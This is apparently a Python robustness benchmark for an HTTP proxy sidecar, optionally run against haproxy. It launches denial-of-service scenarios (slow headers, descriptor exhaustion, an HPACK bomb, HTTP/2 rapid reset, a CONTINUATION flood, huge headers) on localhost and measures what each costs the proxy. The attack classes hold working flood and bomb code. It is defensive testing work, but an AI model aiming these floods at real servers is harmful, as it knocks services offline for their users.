#!/usr/bin/env python3
"""Attack harness: each attack of issue 14 as a named scenario against the
release sidecar (or, with --target haproxy, against haproxy configured as
in production), with what the attacker got and what it cost the proxy.

    python3 benches/robustness/attacks.py                      # every scenario, l7inspect
    python3 benches/robustness/attacks.py --target haproxy     # the same against haproxy
    python3 benches/robustness/attacks.py --only slow-headers,hpack-bomb --hold 10   # some, shorter
    python3 benches/robustness/attacks.py --list

Scenarios (each on a freshly started proxy):

  slow-headers        500 HTTP/1 connections, each sending about 380 KB of an
                      unfinished request head, then one more header byte
                      every 5 s (--slow-conns, --slow-kb)
  idle-fd-limit       the proxy started with a descriptor limit of 256 (prlimit), then
                      300 connections that never send a byte, each reopened
                      when the proxy closes it; /live and a normal request
                      probed every second (--idle-conns)
  silent-backend      a backend that accepts and never answers; 10 clients
                      wait up to --silent-wait s for an answer
  hpack-bomb          2 attackers, reconnecting: HTTP/2 header blocks that
                      reference a 4 KB dynamic-table entry about 12,000
                      times each (a minimal bomb written here; see below)
  huge-header         HTTP/1 requests with a 1 MiB header
  rapid-reset         4 connections × 10,000 HEADERS + RST_STREAM pairs,
                      reconnecting (CVE-2023-44487)
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATION frames
                      until the proxy stops it (CVE-2024-27316 class)

For each: the answer the attacking clients got; the proxy's RSS before,
during (maximum) and after (3 s after the attackers left), its descriptors
likewise, its CPU over the attack (% of one core, from /proc/PID/stat), the
lines it logged; and a normal client's median latency (l7bench http1, 200
req/s on 2 keep-alive connections) quiet, just before, and during the
attack, with its errors. Output: a table on stdout, one JSON object on the
line starting `ATTACKJSON `, and --out (benches/robustness/results/
attacks-TARGET.json).

haproxy (Debian's /usr/sbin/haproxy, one thread) runs with the timeouts a
production configuration has: Debian's shipped defaults (timeout connect
5s, client 50s, server 50s) plus `timeout http-request 10s` and `timeout
http-keep-alive 10s` as haproxy's documentation recommends; haproxy.cfg
is written by this script (haproxy_cfg below).

The HPACK bomb: benches/robustness/hpack_bomb.py is the fuller one (a
gRPC client on the attacked listener, other bomb shapes); this script has
its own minimal attacker (hpack_attacker)
and does not depend on it.

Everything listens on 127.0.0.1, in a private network namespace as root
(unshare -n, as run.py); every process it starts is stopped by PID; every
attack has a time limit. Standard library only; imports benches/e2e/run.py.
"""

import argparse
import json
import os
import random
import re
import socket
import subprocess
import sys
import threading
import time

import common
from common import e2e

TAG = "attacks"
OFFSETS = {"backend_h1": 0, "backend_h2": 1, "silent": 2, "h1": 10, "h2": 11, "silent_proxy": 12, "admin": 19}
SCENARIOS = ["slow-headers", "idle-fd-limit", "silent-backend", "hpack-bomb", "huge-header", "rapid-reset",
             "continuation-flood"]
ARGS = None
P = {}
BINS = {}


def log(*a):
    common.log(TAG, *a)


# ------------------------------------------------------------ targets


HAPROXY_CFG = """\
# Written by benches/robustness/attacks.py: haproxy as production runs it.
# Timeouts: Debian's shipped defaults (connect 5s, client 50s, server 50s)
# and haproxy's recommended http-request and http-keep-alive (10s).
global
    nbthread 1
    maxconn 4096
defaults
    mode http
    option http-keep-alive
    http-reuse safe
    timeout connect 5s
    timeout client 50s
    timeout server 50s
    timeout http-request 10s
    timeout http-keep-alive 10s
frontend h1
    bind 127.0.0.1:{h1}
    default_backend be_h1
frontend h2
    bind 127.0.0.1:{h2} proto h2
    default_backend be_h2
frontend silent
    bind 127.0.0.1:{silent_proxy}
    default_backend be_silent
frontend admin
    bind 127.0.0.1:{admin}
    monitor-uri /live
backend be_h1
    server s1 127.0.0.1:{backend_h1}
backend be_h2
    server s1 127.0.0.1:{backend_h2} proto h2
backend be_silent
    server s1 127.0.0.1:{silent}
"""


def start_proxy(tmp, name, nofile=None):
    """The proxy under attack, freshly started (with RLIMIT_NOFILE `nofile`,
    soft and hard, from its start when given: a proxy sizes what it keeps
    for itself from the limit it starts with, as in a container whose limit
    is set); its Popen."""
    limit = ["prlimit", f"--nofile={nofile}:{nofile}", "--"] if nofile else []
    if ARGS.target == "haproxy":
        cfg = os.path.join(tmp, "haproxy.cfg")
        text = HAPROXY_CFG.format(**P)
        if nofile:
            # haproxy refuses to start with a maxconn the limit cannot hold;
            # without one it derives maxconn from the limit.
            text = text.replace("    maxconn 4096\n", "")
        with open(cfg, "w") as f:
            f.write(text)
        p = e2e.start(limit + [ARGS.haproxy, "-db", "-f", cfg], ARGS.proxy_cpu, name, tmp)
    else:
        cmd = common.sidecar_base(BINS, P["admin"], "off")
        for lp, tp in (("h1", "backend_h1"), ("h2", "backend_h2"), ("silent_proxy", "silent")):
            cmd += ["--inbound-forward", f"127.0.0.1:{P[lp]}=127.0.0.1:{P[tp]}"]
        cmd += ARGS.sidecar_arg
        p = e2e.start(limit + cmd, ARGS.proxy_cpu, name, tmp, e2e.sidecar_env())
    for k in ("h1", "h2", "silent_proxy", "admin"):
        e2e.wait_port(P[k], p)
    return p


class SilentBackend(threading.Thread):
    """Accepts and reads, never answers; holds every connection until
    stopped."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.ls = socket.create_server(("127.0.0.1", port), backlog=1024)
        self.ls.settimeout(0.2)
        self.held = []
        self.halt = threading.Event()

    def run(self):
        while not self.halt.is_set():
            try:
                s, _ = self.ls.accept()
                self.held.append(s)
            except socket.timeout:
                pass
            except OSError:
                break
        for s in self.held:
            s.close()
        self.ls.close()

    def stop(self):
        self.halt.set()
        self.join(5)


# ------------------------------------------------------------ normal client


class Normal:
    """l7bench http1 at 200 req/s on 2 keep-alive connections to the h1
    listener for `secs`, in the background; its JSON when done."""

    def __init__(self, secs, rate=200):
        self.p = subprocess.Popen(
            ["taskset", "-c", str(ARGS.load_cpu), BINS["l7bench"], "http1", "--addr", f"127.0.0.1:{P['h1']}",
             "--rate", str(rate), "--conns", "2", "--duration", str(secs), "--warmup", "0", "--grace", "5",
             "--expect-len", str(len(common.BODY))],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.p._e2e_name = "l7bench-normal"
        e2e.CHILDREN.append(self.p)
        self.secs = secs

    def result(self):
        try:
            out, err = self.p.communicate(timeout=self.secs + 30)
        except subprocess.TimeoutExpired:
            e2e.stop(self.p)
            return {"error": "did not finish"}
        e2e.stop(self.p)
        if self.p.returncode != 0 or not out.strip():
            return {"error": f"exit {self.p.returncode}: {err.strip()[-200:]}"}
        return json.loads(out.strip().splitlines()[-1])


def p50_ms(r):
    v = r.get("p50_us") if isinstance(r, dict) else None
    return None if v is None else round(v / 1000, 2)


# ------------------------------------------------------------ attacks
#
# Each attack is a class with start() (begins, returns once the attack is
# in force), stop() (the attackers leave) and result() (what they got).


class SlowHeaders:
    """--slow-conns connections, each sending --slow-kb KB of unfinished
    request head (1,000-byte X-Pad-N lines and a last line left open), then
    one more byte every 5 s. Records when and how the proxy ended each."""

    def __init__(self):
        self.socks = {}  # sock -> opened at
        self.ended = []  # (after s, first line or how)
        self.refused = {}
        self.halt = threading.Event()
        self.sent_bytes = 0

    def start(self):
        head = b"GET / HTTP/1.1\r\nHost: bench.local\r\n"
        pad = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"a" * 990) for i in range(ARGS.slow_kb * 1000 // 1002))
        data = self.data = head + pad + b"X-Slow: "
        for _ in range(ARGS.slow_conns):
            t0 = time.monotonic()
            try:
                s = socket.create_connection(("127.0.0.1", P["h1"]), 5)
            except OSError as e:
                why = f"connect: {type(e).__name__}"
                self.refused[why] = self.refused.get(why, 0) + 1
                continue
            s.settimeout(10)
            try:
                s.sendall(data)
                self.sent_bytes += len(data)
                self.socks[s] = t0
            except OSError as e:
                # The proxy refused the head before it was all sent: what
                # did it answer?
                got, how = common.drain(s, until=time.monotonic() + 1)
                s.close()
                self.ended.append((round(time.monotonic() - t0, 1),
                                   common.first_line(got) or f"{type(e).__name__} while sending"))
        for s in self.socks:
            s.setblocking(False)
        self.t = threading.Thread(target=self.drip, daemon=True)
        self.t.start()

    def drip(self):
        last = time.monotonic()
        while not self.halt.is_set():
            self.halt.wait(0.5)
            now = time.monotonic()
            drip = now - last >= 5
            if drip:
                last = now
            for s in list(self.socks):
                try:
                    data = s.recv(4096)
                    if data == b"":
                        raise ConnectionResetError("closed")
                    self.ended.append((round(now - self.socks.pop(s), 1), common.first_line(data)))
                    s.close()
                    continue
                except BlockingIOError:
                    pass
                except OSError as e:
                    self.ended.append((round(now - self.socks.pop(s), 1),
                                       "closed" if str(e) == "closed" else "reset"))
                    s.close()
                    continue
                if drip:
                    try:
                        s.send(b"a")
                    except OSError:
                        pass

    def stop(self):
        self.halt.set()
        self.t.join(5)
        self.held_at_end = len(self.socks)
        for s in self.socks:
            s.close()

    def result(self):
        answers = {}
        for _, a in self.ended:
            answers[a] = answers.get(a, 0) + 1
        after = sorted(t for t, _ in self.ended)
        parts = [f"{self.held_at_end} of {ARGS.slow_conns} still held when the attackers left"]
        if self.ended:
            parts.append(f"{len(self.ended)} ended by the proxy, median after {after[len(after) // 2]} s "
                         f"(max {after[-1]} s): " + ", ".join(f"{k} ×{v}" for k, v in answers.items()))
        if self.refused:
            parts.append("refused while sending: " + ", ".join(f"{k} ×{v}" for k, v in self.refused.items()))
        return {"answer": "; ".join(parts), "held_at_end": self.held_at_end, "ended": len(self.ended),
                "ended_after_s": after, "answers": answers, "refused": self.refused,
                "head_bytes_each": len(self.data)}


class IdleFdLimit:
    """The proxy started with RLIMIT_NOFILE at --fd-limit (prlimit), then
    --idle-conns connections that send nothing; every second /live on the
    admin port and a GET through the proxy (3 s timeouts each)."""

    def __init__(self, proxy):
        self.proxy = proxy
        self.socks = []
        self.probes = {"live": [], "normal": []}
        self.halt = threading.Event()
        self.refused = 0
        self.closed = 0  # idle connections the proxy closed (each reopened)

    def start(self):
        for _ in range(ARGS.idle_conns):
            try:
                self.socks.append(socket.create_connection(("127.0.0.1", P["h1"]), 3))
            except OSError:
                self.refused += 1
        self.t = threading.Thread(target=self.probe, daemon=True)
        self.t.start()

    def refill(self):
        """Idle connections the proxy closed are opened again, as an
        attacker holding its connections would."""
        for s in list(self.socks):
            s.setblocking(False)
            try:
                # Anything readable (an answer such as haproxy's 408, the
                # close, a reset) means the proxy gave up on it.
                s.recv(1)
            except BlockingIOError:
                continue
            except OSError:
                pass
            self.socks.remove(s)
            s.close()
            self.closed += 1
        while len(self.socks) < ARGS.idle_conns and not self.halt.is_set():
            try:
                self.socks.append(socket.create_connection(("127.0.0.1", P["h1"]), 1))
            except OSError:
                self.refused += 1
                break

    def probe(self):
        while not self.halt.is_set():
            self.refill()
            for key, port, path in (("live", P["admin"], "/live"), ("normal", P["h1"], "/")):
                t0 = time.monotonic()
                st, _ = common.http_get(port, path, timeout=3)
                self.probes[key].append((st, round((time.monotonic() - t0) * 1000, 2)))
            self.halt.wait(1.0)

    def stop(self):
        self.halt.set()
        self.t.join(10)
        self.held_at_end = 0
        for s in self.socks:
            s.setblocking(False)
            try:
                s.recv(1)  # readable: answered or closed by the proxy
            except BlockingIOError:
                self.held_at_end += 1
            except OSError:
                pass
            s.close()

    def result(self):
        out = {"idle_held_at_end": self.held_at_end, "idle_connect_failures": self.refused,
               "idle_closed_by_proxy": self.closed}
        desc = [f"{ARGS.idle_conns} idle kept open (reopened when closed): the proxy closed {self.closed}, "
                f"{self.held_at_end} still open at the end"]
        for key in ("live", "normal"):
            res = self.probes[key]
            ok = [ms for st, ms in res if st == 200]
            fails = {}
            for st, _ in res:
                if st != 200:
                    k = str(st).split(":")[0]
                    fails[k] = fails.get(k, 0) + 1
            out[key] = {"ok": len(ok), "of": len(res), "failures": fails,
                        "median_ms": sorted(ok)[len(ok) // 2] if ok else None}
            desc.append(f"{'/live' if key == 'live' else 'GET /'} {len(ok)}/{len(res)} OK"
                        + (f" ({', '.join(f'{k} ×{v}' for k, v in fails.items())})" if fails else ""))
        out["answer"] = "; ".join(desc)
        return out


class SilentBackendAttack:
    """--silent-clients GETs to the listener whose backend never answers,
    each waiting up to --silent-wait s."""

    def __init__(self):
        self.outcomes = []
        self.lock = threading.Lock()

    def one(self):
        t0 = time.monotonic()
        try:
            s = socket.create_connection(("127.0.0.1", P["silent_proxy"]), 5)
            s.sendall(b"GET / HTTP/1.1\r\nHost: bench.local\r\n\r\n")
            # Until the first byte (or the close): when the answer came is
            # the figure, whether or not the proxy keeps the connection.
            got, how = common.drain(s, until=t0 + ARGS.silent_wait, limit=1)
            after = time.monotonic() - t0
            if got:
                more, _ = common.drain(s, until=time.monotonic() + 0.5, limit=200)
                got += more
            s.close()
            what = common.first_line(got) or how
            if how == "still open" and not got:
                what = f"nothing within {ARGS.silent_wait:g} s"
        except OSError as e:
            what = type(e).__name__
            after = time.monotonic() - t0
        with self.lock:
            self.outcomes.append((what, round(after, 1)))

    def start(self):
        self.ts = [threading.Thread(target=self.one, daemon=True) for _ in range(ARGS.silent_clients)]
        for t in self.ts:
            t.start()

    def wait(self):
        for t in self.ts:
            t.join(ARGS.silent_wait + 10)

    def stop(self):
        self.wait()

    def result(self):
        answers = {}
        for what, after in self.outcomes:
            key = f"{what} after {after:.0f} s" if not what.startswith("nothing") else what
            answers[key] = answers.get(key, 0) + 1
        return {"answer": ", ".join(f"{k} ×{v}" for k, v in answers.items()), "outcomes": self.outcomes}


class H2Flood:
    """A family of raw HTTP/2 attackers on the h2 listener, each on its own
    thread, reconnecting whenever the proxy closes the connection, until
    stopped: `conn_body(sock, state)` sends the attack on one connection."""

    def __init__(self, attackers, body):
        self.n, self.body = attackers, body
        self.halt = threading.Event()
        self.lock = threading.Lock()
        self.conns = 0
        self.units = 0
        self.bytes = 0
        self.answers = {}
        self.per_conn_units = []
        self.last_streams = []  # GOAWAY's last stream id, per connection
        self.statuses, self.resets = {}, {}  # over all connections

    def attacker(self, k):
        while not self.halt.is_set():
            try:
                s = socket.create_connection(("127.0.0.1", P["h2"]), 5)
            except OSError as e:
                self.tally(f"connect: {type(e).__name__}", 0, 0)
                self.halt.wait(0.2)
                continue
            s.settimeout(5)
            reader = common.H2Reader()
            stopper = threading.Thread(target=self.read, args=(s, reader), daemon=True)
            cnt = [0, 0]  # units, bytes: kept when the proxy cuts the send short
            try:
                s.sendall(common.PREFACE + common.frame(common.SETTINGS, 0, 0))
                stopper.start()
                self.body(s, self.halt, reader, cnt)
                how = "attacker stopped"
            except (BrokenPipeError, ConnectionResetError):
                how = "closed"
            except socket.timeout:
                how = "send stalled 5 s"
            except OSError as e:
                how = type(e).__name__
            s.close()
            stopper.join(2)
            self.tally(f"{reader.answer(counts=False)} ({how})", cnt[0], cnt[1],
                       reader.goaway["last_stream"] if reader.goaway else None, reader)

    def read(self, s, reader):
        while True:
            try:
                d = s.recv(65536)
            except OSError:
                return
            if not d:
                return
            reader.feed(d)

    def tally(self, answer, units, sent, last_stream=None, reader=None):
        with self.lock:
            if reader is not None:
                for src, dst in ((reader.statuses, self.statuses), (reader.resets, self.resets)):
                    for k, v in src.items():
                        dst[k] = dst.get(k, 0) + v
            if last_stream is not None:
                self.last_streams.append(last_stream)
            self.conns += 1
            self.units += units
            self.bytes += sent
            self.per_conn_units.append(units)
            self.answers[answer] = self.answers.get(answer, 0) + 1

    def start(self):
        self.ts = [threading.Thread(target=self.attacker, args=(k,), daemon=True) for k in range(self.n)]
        for t in self.ts:
            t.start()
        time.sleep(0.5)

    def stop(self):
        self.halt.set()
        for t in self.ts:
            t.join(10)

    def result(self, unit):
        per = sorted(self.per_conn_units)
        med = per[len(per) // 2] if per else 0
        answers = sorted(self.answers.items(), key=lambda kv: -kv[1])
        last = sorted(self.last_streams)
        processed = f", GOAWAY's last stream id median {last[len(last) // 2]}" if last else ""
        totals = []
        if self.statuses:
            totals.append("responses " + ", ".join(f"{k} ×{v}" for k, v in sorted(self.statuses.items(), key=str)))
        if self.resets:
            totals.append("RST_STREAM " + ", ".join(f"{k} ×{v}" for k, v in sorted(self.resets.items())))
        return {"answer": f"{self.conns} connections, {self.units} {unit} sent (median {med} per connection"
                          f"{processed}); " + "; ".join(totals + [", ".join(f"{k} ×{v}" for k, v in answers[:3])]),
                "responses": self.statuses, "resets_received": self.resets,
                "goaway_last_stream_median": last[len(last) // 2] if last else None,
                "connections": self.conns, unit: self.units, "bytes": self.bytes, "answers": self.answers,
                f"median_{unit}_per_conn": med}


def hpack_attacker(s, halt, reader, cnt):
    """A minimal HPACK bomb on one connection. Each header block (one
    HEADERS frame, END_HEADERS) holds the request's pseudo-headers, a new
    4,000-byte value added to the dynamic table (literal with incremental
    indexing, name x-bomb: a 4,038-byte entry, which evicts the previous
    one from the default 4,096-byte table) and --hpack-refs one-byte
    references to it (index 62: 0xbe). With the default 14 a block is about
    4.1 KB on the wire and decodes to about 60 KB of headers: over a
    16 KiB header-list limit, so the stream is refused, but under four
    times it, where h2 (0.4.20) would close the whole connection at once;
    so one connection can send as many as the server tolerates refused
    streams. Blocks go in batches of 20 until the connection ends or
    `halt`; cnt: [header blocks sent, bytes]."""
    base = common.request_block()
    rng = random.Random(7541)
    sid = 1
    while not halt.is_set() and reader.goaway is None:
        batch = []
        for _ in range(20):
            value = bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(16)) * 250
            blk = base + common.literal(b"x-bomb", value, incremental=True) + b"\xbe" * ARGS.hpack_refs
            batch.append(common.frame(common.HEADERS, common.END_HEADERS | common.END_STREAM, sid, blk))
            sid += 2
        data = b"".join(batch)
        s.sendall(data)
        cnt[0] += 20
        cnt[1] += len(data)


def rapid_reset_attacker(s, halt, reader, cnt):
    """10,000 HEADERS + RST_STREAM(CANCEL) pairs in batches of 500, as fast
    as the socket takes them; then waits for the connection to end (or 2 s)
    before the attacker reconnects."""
    block = common.request_block()
    sid = 1
    while cnt[0] < ARGS.resets and not halt.is_set() and reader.goaway is None:
        batch = []
        for _ in range(500):
            batch.append(common.frame(common.HEADERS, common.END_HEADERS | common.END_STREAM, sid, block))
            batch.append(common.frame(common.RST_STREAM, 0, sid, (8).to_bytes(4, "big")))
            sid += 2
        data = b"".join(batch)
        s.sendall(data)
        cnt[0] += 500
        cnt[1] += len(data)
    end = time.monotonic() + 2
    while reader.goaway is None and time.monotonic() < end and not halt.is_set():
        time.sleep(0.05)


def continuation_attacker(s, halt, reader, cnt):
    """HEADERS without END_HEADERS, then CONTINUATION frames (each 16 KB of
    new literal headers, never END_HEADERS) until the proxy ends the
    connection, stops reading (5 s), or 64 MB were sent."""
    rng = random.Random(27316)
    s.sendall(common.frame(common.HEADERS, common.END_STREAM, 1, common.request_block()))
    while not halt.is_set() and reader.goaway is None and cnt[1] < 64 << 20:
        block = b""
        while len(block) < 16000:
            block += common.literal(b"x-c%d" % rng.randrange(1 << 30), b"c" * 100)
        data = common.frame(common.CONTINUATION, 0, 1, block)
        s.sendall(data)
        cnt[0] += 1
        cnt[1] += len(data)


class HugeHeader:
    """--huge-count HTTP/1 requests, one after another, each with a 1 MiB
    header value (sent whole; the answer read for up to 5 s)."""

    def __init__(self):
        self.answers = {}

    def start(self):
        req = b"GET / HTTP/1.1\r\nHost: bench.local\r\nX-Huge: " + b"h" * (1 << 20) + b"\r\n\r\n"
        for _ in range(ARGS.huge_count):
            try:
                s = socket.create_connection(("127.0.0.1", P["h1"]), 5)
                s.settimeout(5)
                try:
                    s.sendall(req)
                    how = ""
                except OSError as e:
                    how = f"send: {type(e).__name__}"
                got, end = common.drain(s, until=time.monotonic() + 5)
                s.close()
                what = (common.first_line(got) or end) + (f" ({how})" if how else "")
            except OSError as e:
                what = type(e).__name__
            self.answers[what] = self.answers.get(what, 0) + 1

    def stop(self):
        pass

    def result(self):
        return {"answer": ", ".join(f"{k} ×{v}" for k, v in self.answers.items()), "answers": self.answers}


# ------------------------------------------------------------ runner


def log_lines(tmp, name):
    try:
        with open(os.path.join(tmp, name + ".log"), "rb") as f:
            return sum(1 for _ in f)
    except OSError:
        return 0


def scenario(name, tmp):
    """Run one scenario on a fresh proxy; its measurements."""
    pname = f"{ARGS.target}-{name}"
    silent = SilentBackend(P["silent"]) if name == "silent-backend" else None
    if silent:
        silent.start()
    proxy = start_proxy(tmp, pname, ARGS.fd_limit if name == "idle-fd-limit" else None)
    pids = [proxy.pid]
    try:
        st, _ = common.http_get(P["h1"])
        if st != 200:
            raise RuntimeError(f"warm-up GET through {ARGS.target}: {st}")
        sampler = common.Sampler(pids, interval=0.5)
        sampler.start()
        quiet = Normal(ARGS.quiet).result()
        before = sampler.read()
        lines0 = log_lines(tmp, pname)
        attack = {
            "slow-headers": SlowHeaders,
            "idle-fd-limit": lambda: IdleFdLimit(proxy),
            "silent-backend": SilentBackendAttack,
            "hpack-bomb": lambda: H2Flood(2, hpack_attacker),
            "huge-header": HugeHeader,
            "rapid-reset": lambda: H2Flood(4, rapid_reset_attacker),
            "continuation-flood": lambda: H2Flood(2, continuation_attacker),
        }[name]()
        t0 = sampler.now()
        hold = ARGS.hold
        if name == "slow-headers":
            hold = ARGS.slow_hold
        normal = None
        if name == "huge-header":
            normal = Normal(max(3, hold))
            attack.start()
        elif name == "idle-fd-limit":
            attack.start()
            time.sleep(hold)
        else:
            attack.start()
            normal = Normal(hold)
        during = normal.result() if normal else None
        if name == "silent-backend":
            attack.wait()
        t1 = sampler.now()
        attack.stop()
        alive = proxy.poll() is None
        time.sleep(ARGS.settle)
        after = sampler.read()
        sampler.stop()
        win = sampler.window(t0, t1)
        res = attack.result() if not isinstance(attack, H2Flood) else attack.result(
            {"hpack-bomb": "header_blocks", "rapid-reset": "resets", "continuation-flood": "continuations"}[name])
        out = {
            "scenario": name, "target": ARGS.target, "attack_s": round(t1 - t0, 1), **res,
            "proxy_alive": alive,
            "rss_before_mib": common.mib(before[1]),
            "rss_during_max_mib": common.mib(max((s[1] for s in win), default=before[1])),
            "rss_after_mib": common.mib(after[1]),
            "fds_before": before[2], "fds_during_max": max((s[2] for s in win), default=before[2]),
            "fds_after": after[2],
            "cpu_pct_during": None if common.cpu_pct(win) is None else round(common.cpu_pct(win), 1),
            "log_lines_during": log_lines(tmp, pname) - lines0,
            "normal_quiet_p50_ms": p50_ms(quiet),
            "normal_during_p50_ms": p50_ms(during) if during else None,
            "normal_during_errors": None if not during else
            (during.get("errors", 0) + during.get("unfinished", 0) if "error" not in during else during["error"]),
            "normal_during_error_kinds": (during or {}).get("error_kinds"),
        }
        if name == "idle-fd-limit":
            out["normal_during_p50_ms"] = res["normal"]["median_ms"]
            out["normal_during_errors"] = res["normal"]["of"] - res["normal"]["ok"]
        return out
    finally:
        e2e.stop(proxy)
        if silent:
            silent.stop()


def fmt(v):
    return "—" if v is None else str(v)


def main():
    global ARGS, P, BINS
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--target", choices=("l7inspect", "haproxy"), default="l7inspect")
    ap.add_argument("--only", default="", help="comma-separated scenarios (default: all; --list)")
    ap.add_argument("--list", action="store_true", help="print the scenarios and exit")
    ap.add_argument("--hold", type=float, default=20, help="seconds each attack is held (default 20)")
    ap.add_argument("--quiet", type=float, default=5, help="seconds of the normal client before the attack")
    ap.add_argument("--settle", type=float, default=3, help="seconds after the attack before 'after'")
    ap.add_argument("--slow-conns", type=int, default=500)
    ap.add_argument("--slow-kb", type=int, default=380, help="KB of unfinished head per slow connection")
    ap.add_argument("--slow-hold", type=float, default=40, help="seconds the slow heads are held (default 40)")
    ap.add_argument("--idle-conns", type=int, default=300)
    ap.add_argument("--fd-limit", type=int, default=256, help="the proxy's RLIMIT_NOFILE in idle-fd-limit")
    ap.add_argument("--silent-clients", type=int, default=10)
    ap.add_argument("--silent-wait", type=float, default=60,
                    help="seconds a client of the silent backend waits (default 60: past haproxy's 50 s)")
    ap.add_argument("--huge-count", type=int, default=10)
    ap.add_argument("--hpack-refs", type=int, default=14,
                    help="references to the 4 KB entry per header block of hpack-bomb (default 14)")
    ap.add_argument("--resets", type=int, default=10000, help="HEADERS+RST_STREAM pairs per connection")
    ap.add_argument("--sidecar-arg", action="append", default=[],
                    help="an extra sidecar flag (repeatable), e.g. --sidecar-arg=--log-level=info")
    ap.add_argument("--haproxy", default="/usr/sbin/haproxy")
    ap.add_argument("--proxy-cpu", type=int, default=0)
    ap.add_argument("--load-cpu", type=int, default=1)
    ap.add_argument("--port-base", type=int, default=18700, help="ports BASE..BASE+19 on 127.0.0.1")
    ap.add_argument("--netns", choices=("auto", "yes", "no"), default="auto")
    ap.add_argument("--bin-dir", default="")
    ap.add_argument("--no-build", action="store_true")
    ap.add_argument("--out", default="")
    ARGS = ap.parse_args()
    if ARGS.list:
        print("\n".join(SCENARIOS))
        return 0
    only = [s for s in ARGS.only.split(",") if s] or SCENARIOS
    unknown = set(only) - set(SCENARIOS)
    if unknown:
        sys.exit(f"FAIL: unknown scenarios {sorted(unknown)}; --list")
    if os.environ.get(common.NETNS_ENV) != "1":
        tools = {"nginx": "nginx", "prlimit": "util-linux", "taskset": "util-linux"}
        if ARGS.target == "haproxy":
            tools["haproxy"] = "haproxy"
        common.need_tools(tools, TAG)
        common.build(ARGS, TAG)
    common.enter_netns(ARGS.netns, __file__, TAG)
    BINS = common.binaries(ARGS)
    P = {k: ARGS.port_base + v for k, v in OFFSETS.items()}
    common.ports_free(P.values())
    tmp = common.prepare(TAG)
    started = common.now_utc()
    m = common.machine()
    if ARGS.target == "haproxy":
        m["haproxy"] = subprocess.run([ARGS.haproxy, "-v"], capture_output=True, text=True).stdout.splitlines()[0]
    common.start_nginx_backend(tmp, P["backend_h1"], P["backend_h2"], ARGS.load_cpu)
    results = []
    for name in only:
        log(f"{ARGS.target}: {name}")
        try:
            r = scenario(name, tmp)
        except Exception as e:  # noqa: BLE001 (one scenario failing does not stop the others)
            r = {"scenario": name, "target": ARGS.target, "error": str(e)[:300]}
            log(f"{name} failed: {e}")
        results.append(r)
        log(json.dumps(r, default=str)[:600])
    hdr = ["scenario", "answer", "RSS MiB before/during/after", "fds before/max/after", "CPU %",
           "normal p50 ms quiet/during", "normal errors", "log lines"]
    rows = []
    for r in results:
        if "error" in r:
            rows.append([r["scenario"], "harness error: " + r["error"][:80]] + ["—"] * 6)
            continue
        rows.append([r["scenario"], r["answer"][:110],
                     f"{fmt(r['rss_before_mib'])} / {fmt(r['rss_during_max_mib'])} / {fmt(r['rss_after_mib'])}",
                     f"{r['fds_before']} / {r['fds_during_max']} / {r['fds_after']}", fmt(r["cpu_pct_during"]),
                     f"{fmt(r['normal_quiet_p50_ms'])} / {fmt(r['normal_during_p50_ms'])}",
                     fmt(r["normal_during_errors"]), r["log_lines_during"]])
    out = {"started": started, "finished": common.now_utc(), "machine": m, "target": ARGS.target,
           "params": {k: v for k, v in vars(ARGS).items() if k not in ("list",)}, "results": results}
    path = ARGS.out or os.path.join(common.HERE, "results", f"attacks-{ARGS.target}.json")
    common.write_json(path, out)
    print(f"== attacks against {ARGS.target} ({m['l7inspect_commit'] if ARGS.target == 'l7inspect' else m['haproxy']}; "
          f"load average {' '.join(m['load_average'])})")
    print(common.table(hdr, rows))
    print("\n" + common.markdown(hdr, [[str(c) for c in row] for row in rows]))
    print("ATTACKJSON " + json.dumps(out, default=str))
    print(f"written: {path}")
    return 0 if all("error" not in r for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
